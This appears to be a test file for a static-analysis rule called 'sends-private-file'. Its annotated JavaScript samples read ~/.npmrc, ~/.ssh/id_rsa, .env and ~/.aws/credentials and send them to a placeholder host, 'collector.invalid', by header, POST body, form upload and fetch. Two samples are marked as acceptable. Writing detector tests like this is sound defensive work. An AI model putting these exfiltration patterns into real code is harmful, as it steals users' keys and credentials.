const https = require("https");

function inHeader() {
  const npmrc = path.join(process.env.HOME, ".npmrc");
  let content = "none";
  if (fs.existsSync(npmrc)) {
    content = fs.readFileSync(npmrc, { encoding: "utf8" }).trim();
    // ruleid: sends-private-file
    https.get({ hostname: "collector.invalid", headers: { Referer: "http://1.a/" + content } });
  }
}

function inBody() {
  const key = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`);
  const request = https.request({ host: "collector.invalid", method: "POST" });
  // ruleid: sends-private-file
  request.write(key);
  request.end();
}

async function inForm() {
  const form = new FormData();
  // ruleid: sends-private-file
  form.append("document", new Blob([await fs.promises.readFile(root + "/.env")]));
}

async function awaited() {
  const text = await readFile(path.join(home, ".aws", "credentials"), "utf8");
  // ruleid: sends-private-file
  await fetch("https://collector.invalid/", { method: "POST", body: text });
}

function mirror() {
  const registry = parse(fs.readFileSync(path.join(root, "settings.json"))).registry;
  // ok: sends-private-file
  https.get(registry + "/tool.tgz", save);
}

function cached() {
  // ok: sends-private-file
  return cache.get(path.join(root, ".npmrc"));
}
